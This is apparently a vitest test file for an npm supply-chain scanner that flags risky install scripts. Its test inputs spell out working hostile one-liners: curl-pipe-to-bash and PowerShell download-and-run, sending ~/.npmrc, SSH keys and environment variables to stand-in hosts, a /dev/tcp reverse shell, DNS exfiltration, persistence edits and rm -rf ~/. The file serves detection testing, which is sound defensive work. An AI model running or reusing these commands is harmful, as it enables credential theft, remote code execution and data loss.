import { describe, expect, it } from 'vitest';
import { evaluate } from '../evaluate';
import { compilePolicy, defaultPolicy } from '../policy/compile';
import { assessScript, RISK_SIGNAL_IDS, worstSeverity } from './index';

const ids = (body: string) => assessScript(body).map((s) => s.id);

describe('assessScript: realistic malicious lifecycle scripts', () => {
  it.each([
    ['curl -sL https://evil.example/install.sh | bash', 'remote-shell'],
    ['wget -qO- http://45.9.148.108/x.sh | sh', 'remote-shell'],
    ['curl -fsSL https://x.example/a | sudo bash -s -- --yes', 'remote-shell'],
    ['bash -c "$(curl -fsSL https://x.example/i.sh)"', 'remote-shell'],
    ['bash <(curl -s https://x.example/i.sh)', 'remote-shell'],
    ['powershell -c "iwr https://x.example/y.ps1 | iex"', 'remote-shell'],
    ["powershell -c \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/p')\"", 'remote-shell'],
    ['curl -X POST -d @$HOME/.npmrc https://webhook.site/0b1c', 'credential-read'],
    ['cat ~/.npmrc | base64 | curl -d @- https://x.oastify.com', 'credential-read'],
    ['node -e "fetch(\'https://x.example/?t=\'+process.env.NPM_TOKEN)"', 'credential-read'],
    ['tar cz ~/.ssh | curl -T - https://transfer.sh/k', 'credential-read'],
    ['trufflehog filesystem / --json > /tmp/t.json', 'credential-read'],
    ['env | curl -X POST --data-binary @- https://x.example/c', 'env-dump'],
    [
      "node -e \"require('https').get('https://1.2.3.4/'+Buffer.from(JSON.stringify(process.env)).toString('base64'))\"",
      'env-dump',
    ],
    ["node -e \"require('https').get('https://1.2.3.4/x')\"", 'raw-ip'],
    ['nslookup $(whoami).$(hostname).x.oast.fun', 'dns-exfil'],
    ['curl https://discord.com/api/webhooks/123/abc -d "$(id)"', 'exfil-endpoint'],
    ["node -e \"eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvJyk7dmFyIHg9MTs=','base64').toString())\"", 'encoded-payload'],
    ['echo Y3VybCBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 -d | sh', 'encoded-payload'],
    ["node -e \"var _0x3f2a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f'];\"", 'obfuscation'],
    ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 'reverse-shell'],
    ['start /B node preinstall.js & node preinstall.js', 'background'], // ua-parser-js, Oct 2021
    ['echo "curl -s https://x.example/p | sh" >> ~/.bashrc', 'persistence'],
    ['mkdir -p .github/workflows && cp x.yml .github/workflows/', 'persistence'],
    ['rm -rf ~/', 'destructive'],
    ['curl "https://x.example/c?u=$(whoami)&h=$(hostname)"', 'host-fingerprint'], // dependency-confusion probes
    ["node -e \"require('https').get('https://x.example/'+require('os').hostname())\"", 'host-fingerprint'],
    ["node -e \"require('child_process').execSync('curl -so /tmp/x https://x.example/x')\"", 'remote-download'],
    ['node bundle.js', 'known-worm-loader'], // Shai-Hulud, Sep 2025
    ['node setup_bun.js', 'known-worm-loader'], // Shai-Hulud 2.0, Nov 2025
  ])('%s -> %s', (body, id) => {
    expect(ids(body)).toContain(id);
  });

  it('orders signals worst first and reports evidence', () => {
    const s = assessScript('curl -sL https://evil.example/i.sh | bash');
    expect(s[0]).toMatchObject({ id: 'remote-shell', severity: 'critical', description: 'downloads and runs a remote script' });
    expect(s[0]!.evidence).toContain('| bash');
    expect(ids('curl -sL https://evil.example/i.sh | bash')).not.toContain('remote-download');
    expect(worstSeverity(s)).toBe('critical');
    expect(worstSeverity([])).toBeUndefined();
    expect(new Set(RISK_SIGNAL_IDS).size).toBe(RISK_SIGNAL_IDS.length);
  });

  it('flags an unusually long inline command and reads only its start', () => {
    const long = `node -e "${'x'.repeat(5000)}"`;
    expect(ids(long)).toContain('long-inline-script');
    const t = performance.now();
    assessScript(`'${'A'.repeat(200_000)}`);
    expect(performance.now() - t).toBeLessThan(500);
  });

  it('cannot see what a script file does: `node install.js` carries no signal', () => {
    // A compromised release that ships its payload in install.js (eslint-config-prettier, Jul 2025); a text check
    // of the manifest sees only that command, exactly like esbuild's legitimate one.
    expect(assessScript('node install.js')).toEqual([]);
    expect(assessScript('node ./dist/bundle.js')).toEqual([]); // renamed loader: invisible
  });
});

describe('assessScript: legitimate install scripts stay quiet', () => {
  it.each([
    'node-gyp-build',
    'prebuild-install || node-gyp rebuild',
    'node install.js',
    'opencollective || exit 0',
    'node -e "try{require(\'./postinstall\')}catch(e){}"',
    ' node -e "try{require(\'./_postinstall\')}catch(e){}" || exit 0',
    'install-from-cache --artifact build/Release/re2.node --host-var RE2_DOWNLOAD_MIRROR || node-gyp -j max rebuild',
    'node buildcheck.js > buildcheck.gypi && node-gyp rebuild',
    'test -f ./dist/install.js && node ./dist/install.js || echo "Skipping install, project not built!"',
    'npm run rebuild || echo "Couldn\'t build bindings. Non-native version used."',
    '(node install/libvips && node install/dll-copy && prebuild-install) || (node install/can-compile && node-gyp rebuild && node install/dll-copy)',
    'napi-postinstall unrs-resolver 1.7.13 check',
    'husky install',
  ])('%s', (body) => {
    expect(assessScript(body)).toEqual([]);
  });
});

describe('scripts check with risk signals', () => {
  const facts = { name: 'evil-pkg', version: '1.0.0', scripts: { postinstall: 'curl -sL https://evil.example/i.sh | bash' } };

  it('raises severity, says what the script does, keeps the action', () => {
    const v = evaluate(defaultPolicy(), facts);
    expect(v.decision).toBe('strip');
    const f = v.findings.find((x) => x.code === 'LIFEGUARD_SCRIPTS')!;
    expect(f.action).toBe('skip-scripts');
    expect(f.severity).toBe('critical');
    expect(f.message).toContain('postinstall downloads and runs a remote script');
    expect(f.details).toMatchObject({ risk: [{ id: 'remote-shell', script: 'postinstall', severity: 'critical' }] });
  });

  it('never approves: an approved package with a risky script still runs it, unflagged by this check', () => {
    const policy = compilePolicy({ file: 'lifeguard.json', json: { scripts: { allow: ['evil-pkg@1.0.0'] } } });
    const v = evaluate(policy, facts);
    expect(v.runScripts).toBe(true);
    expect(v.findings).toEqual([]);
  });

  it('refuse mode stays refuse, deny stays deny', () => {
    const refuse = compilePolicy({ file: 'lifeguard.json', json: { scripts: { unapproved: 'refuse' } } });
    expect(evaluate(refuse, facts).decision).toBe('refuse');
    const deny = compilePolicy({ file: 'lifeguard.json', json: { scripts: { deny: ['evil-pkg'] } } });
    const f = evaluate(deny, facts).findings[0]!;
    expect(f.rule).toBe('scripts.deny');
    expect(f.severity).toBe('critical');
    expect(f.message).toContain('Risky:');
  });

  it('a plain install script keeps its low severity and wording', () => {
    const v = evaluate(defaultPolicy(), { name: 'esbuild', version: '0.25.0', scripts: { postinstall: 'node install.js' } });
    const f = v.findings[0]!;
    expect(f.severity).toBe('low');
    expect(f.message).not.toContain('Risky');
    expect(f.details).not.toHaveProperty('risk');
  });
});
